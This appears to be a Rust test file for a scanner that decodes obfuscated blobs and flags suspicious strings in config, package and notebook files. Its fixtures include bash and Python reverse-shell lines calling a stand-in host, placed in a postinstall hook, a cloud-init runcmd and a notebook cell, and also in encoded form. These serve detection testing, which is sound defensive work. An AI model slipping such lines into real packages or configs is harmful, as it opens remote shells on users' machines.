//! Blobs: a file that is one, a string that is one, data behind a constant.

use super::*;
use crate::encoding::{base64, hex, substitution};

#[test]
fn a_file_that_is_one_blob_is_decoded() {
    let turned = |text: &str| text.chars().rev().collect::<String>().into_bytes();
    let script = String::from_utf8(SCRIPT.to_vec()).unwrap();
    let percent: String = SCRIPT.iter().map(|byte| format!("%{byte:02X}")).collect();
    let base32 =
        "EMQS6YTJNYXWEYLTNAFGEYLTNAQC22JAHYTCAL3EMV3C65DDOAXTCOJSFYYC4MROGEXTINBUGQQDAPRGGEFA====";
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("base64", base64::encode(SCRIPT).into_bytes()),
        ("base64", base64::encode_lines(SCRIPT).into_bytes()),
        (
            "base64",
            base64::encode(SCRIPT).trim_end_matches('=').into(),
        ),
        ("hex", hex::encode(SCRIPT).into_bytes()),
        ("base32", base32.into()),
        ("percent", percent.into_bytes()),
        ("reversed", turned(script.trim_end())),
        (
            "rot13",
            substitution::rotate_letters(&script, 13).into_bytes(),
        ),
        (
            "base64 > gzip",
            base64::encode(&gzipped(SCRIPT)).into_bytes(),
        ),
        (
            "base64 > base64",
            base64::encode(base64::encode(SCRIPT).as_bytes()).into_bytes(),
        ),
        (
            "base64 > xor 2a",
            base64::encode(&substitution::xor(SCRIPT, b"*")).into_bytes(),
        ),
    ];
    for (chain, content) in cases {
        assert_eq!(chains(&read("x.dat", &content)), [chain], "{chain}");
    }
}

#[test]
fn data_behind_a_constant_is_undone() {
    let shifted: Vec<u8> = SCRIPT.iter().map(|byte| byte.wrapping_add(200)).collect();
    let cases = [
        ("xor 5a", substitution::xor(SCRIPT, b"\x5a")),
        ("xor ff", substitution::xor(SCRIPT, b"\xff")),
        ("shifted by 200", shifted),
        (
            "xor 99 > gzip",
            substitution::xor(&gzipped(SCRIPT), b"\x99"),
        ),
    ];
    for (chain, content) in cases {
        assert_eq!(chains(&read("x.dat", &content)), [chain], "{chain}");
    }
    let code = b"import socket,subprocess,os\ns=socket.socket()\ns.connect(('192.0.2.1',1))\nos.dup2(s.fileno(),0)\n";
    assert_eq!(
        chains(&read("x.dat", &substitution::xor(code, b"\x91"))),
        ["xor 91"]
    );
}

#[test]
fn a_key_of_several_bytes_is_told_by_the_header() {
    let mut elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0\x01\0\0\0".to_vec();
    elf.extend([0; 64]);
    for key in [&b"k3y"[..], b"secret", b"0123456789"] {
        let found = crate::unfold::keyed::find(&substitution::xor(&elf, key));
        assert_eq!(found, Some(crate::unfold::keyed::Key::Xor(key.to_vec())));
    }
    assert_eq!(crate::unfold::keyed::find(&[7; 4096]), None);
}

#[test]
fn strings_of_data_are_looked_at() {
    let blob = base64::encode(&gzipped(SCRIPT));
    let cases = [
        (
            r#"{"postinstall": "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"}"#.to_owned(),
            "string postinstall",
        ),
        (format!(r#"{{"icon": "{blob}"}}"#), "string icon > base64 > gzip"),
        (
            "runcmd:\n  script: |\n    cd /tmp\n    bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n".to_owned(),
            "string script",
        ),
        (
            "runcmd:\n  - bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n".to_owned(),
            "string",
        ),
        (
            r#"{"cells": [{"source": ["import os\n", "os.system('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1')"]}]}"#.to_owned(),
            "string source",
        ),
        (format!("key: {blob}\n"), "string key > base64 > gzip"),
    ];
    for (text, chain) in cases {
        let reading = read("x.conf", text.as_bytes());
        assert_eq!(chains(&reading), [chain], "{text}");
        assert!(
            programs(&reading)
                .iter()
                .all(|program| !program.declared || chain.contains("gzip"))
        );
    }
    let honest = r#"{"title": "How to exec a shell", "scripts": {"test": "mocha -R spec"}}"#;
    assert_eq!(read("x.json", honest.as_bytes()).facts, []);
}

#[test]
fn text_that_decodes_to_itself_ends() {
    for text in [
        "%".repeat(4096),
        "%25".repeat(4096),
        "A".repeat(4096),
        "!".repeat(4096),
    ] {
        assert_eq!(read("x", text.as_bytes()).facts, []);
    }
}
